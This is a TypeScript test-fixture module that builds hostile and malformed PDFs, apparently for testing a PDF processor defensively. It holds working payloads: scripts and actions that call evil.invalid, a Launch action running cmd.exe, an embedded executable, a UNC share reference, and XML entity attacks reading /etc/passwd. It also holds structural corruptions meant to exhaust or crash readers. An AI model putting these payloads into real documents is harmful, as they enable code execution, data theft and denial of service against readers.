import { deflateSync } from 'node:zlib';
import { hostilePdfs, onePage, rawPdf } from '../hostile-pdfs.ts';

/* PDFs that would run, load or send something, or are not what they say; those that have brought down readers stand in hostile-pdfs.ts. */

const TEXT = { dictionary: '', stream: 'BT /F1 11 Tf 72 700 Td (Client full name: Mrs Amara Okafor) Tj ET' };
const CATALOG = '<< /Type /Catalog /Pages 2 0 R ';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Contents 4 0 R';

/** A page of text in a file whose catalog and page say more. */
const withMore = (catalog: string, { page = '', objects = [] }: { page?: string; objects?: Parameters<typeof rawPdf>[0] } = {}): Buffer =>
  rawPdf([`${CATALOG}${catalog} >>`, PAGES, `${PAGE} ${page} >>`, TEXT, ...objects]);
const sound = (): Buffer => withMore('');
const pages = (count: number): Buffer => {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ');
  const leaf = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
  return rawPdf([`${CATALOG}>>`, `<< /Type /Pages /Count ${count} /Kids [${kids}] >>`, ...Array.from({ length: count }, () => leaf)]);
};
const instead = (what: RegExp, by: string): Buffer => Buffer.from(sound().toString('latin1').replace(what, by), 'latin1');
const filtered = (filter: string, stream: Buffer): Buffer =>
  onePage({ dictionary: '', stream: 'q 595 0 0 842 0 0 cm /X Do Q' }, [
    {
      dictionary: `/Type /XObject /Subtype /Image /Width 600 /Height 600 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /${filter}`,
      stream,
    },
  ]);
const noise = (length: number): Buffer => Buffer.from(Array.from({ length }, (_, at) => (at * 2_654_435_761) >>> 24));

/** By what is wrong with each, made on demand. */
export const hostilePdfFiles: Readonly<Record<string, () => Buffer>> = {
  ...hostilePdfs,
  'a script at opening': () => withMore('/OpenAction << /S /JavaScript /JS (app.launchURL\\("http://evil.invalid"\\);) >>'),
  'a program at opening': () => withMore('/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  'a script of names': () => withMore('/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(1\\);) >>] >> >>'),
  'a page that acts when it is seen': () => withMore('', { page: '/AA << /O << /S /URI /URI (http://evil.invalid) >> >>' }),
  'a form that sends itself': () => withMore('/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.invalid) >> >>'),
  'a way to another file': () => withMore('/OpenAction << /S /GoToR /F (\\\\\\\\evil.invalid\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
  'an attached program': () =>
    withMore('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>', {
      objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', { dictionary: '/Type /EmbeddedFile', stream: 'MZ\x90' }],
    }),
  'an XFA form with an entity': () =>
    withMore('/AcroForm << /Fields [] /XFA 5 0 R >>', {
      objects: [{ dictionary: '', stream: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><xdp>&a;</xdp>' }],
    }),
  'metadata with an entity': () =>
    withMore('/Metadata 5 0 R', {
      objects: [
        { dictionary: '/Type /Metadata /Subtype /XML', stream: '<!DOCTYPE x [<!ENTITY a SYSTEM "http://evil.invalid">]><x>&a;</x>' },
      ],
    }),
  '10,000 pages': () => pages(10_000),
  'a password that nobody knows': () =>
    rawPdf(
      [
        `${CATALOG}>>`,
        PAGES,
        `${PAGE} >>`,
        TEXT,
        `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`,
      ],
      '/Encrypt 5 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
    ),
  'a protection of an unknown kind': () =>
    rawPdf([`${CATALOG}>>`, PAGES, `${PAGE} >>`, TEXT, '<< /Filter /Evil /V 99 >>'], '/Encrypt 5 0 R /ID [<00> <00>]'),
  'a table of objects that lies': () => instead(/(\d{10}) 00000 n/g, '9999999999 00000 n'),
  'no table of objects': () => instead(/xref[\s\S]*trailer/, 'trailer'),
  'a start past the end': () => instead(/startxref\n\d+/, 'startxref\n99999999'),
  'a start before the beginning': () => instead(/startxref\n\d+/, 'startxref\n-5'),
  'a root that is no catalog': () => instead(/\/Root 1 0 R/, '/Root 4 0 R'),
  'a root that isn’t there': () => instead(/\/Root 1 0 R/, '/Root 4711 0 R'),
  'a stream longer than the file': () => instead(/\/Length \d+/, '/Length 2147483647'),
  'a stream of less than nothing': () => instead(/\/Length \d+/, '/Length -1'),
  'a length that is its own': () => instead(/\/Length \d+/, '/Length 4 0 R'),
  'half of a file': () => sound().subarray(0, 300),
  'nothing but its first line': () => Buffer.from('%PDF-1.7\n'),
  'a page without an end in both directions': () => instead(/\[0 0 595 842\]/, '[-1e38 -1e38 1e38 1e38]'),
  'a page of nothing': () => instead(/\[0 0 595 842\]/, '[0 0 0 0]'),
  'a page whose size isn’t a number': () => instead(/\[0 0 595 842\]/, '[(a) /b null 1 0 R]'),
  'noise in JBIG2': () => filtered('JBIG2Decode', noise(60_000)),
  'noise in JPEG 2000': () => filtered('JPXDecode', noise(60_000)),
  'noise in a fax': () => filtered('CCITTFaxDecode', noise(60_000)),
  'noise in a JPEG': () => filtered('DCTDecode', noise(60_000)),
  'noise, deflated': () => filtered('FlateDecode', deflateSync(noise(360_000))),
  'forty filters': () => onePage({ dictionary: `/Filter [${'/ASCIIHexDecode '.repeat(40)}]`, stream: '41>' }),
  'an unknown filter': () => onePage({ dictionary: '/Filter /EvilDecode', stream: 'x' }),
  'a web page in front': () => Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), sound()]),
  'a zip in front': () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), sound()]),
  'a second file behind it': () => Buffer.concat([sound(), sound().subarray(0, -6), onePage(TEXT)]),
  'a thousand endings': () => Buffer.concat([sound(), ...Array.from({ length: 1_000 }, () => Buffer.from('\nstartxref\n9\n%%EOF\n'))]),
  'operators that nobody knows': () => onePage({ dictionary: '', stream: 'EVIL 1 2 3 obj << >> stream endstream '.repeat(20_000) }),
  'text at sizes beyond all numbers': () =>
    onePage({ dictionary: '', stream: 'BT /F1 1e38 Tf 1e38 1e-38 1e38 1e38 1e38 1e38 Tm (a) Tj ET' }),
};
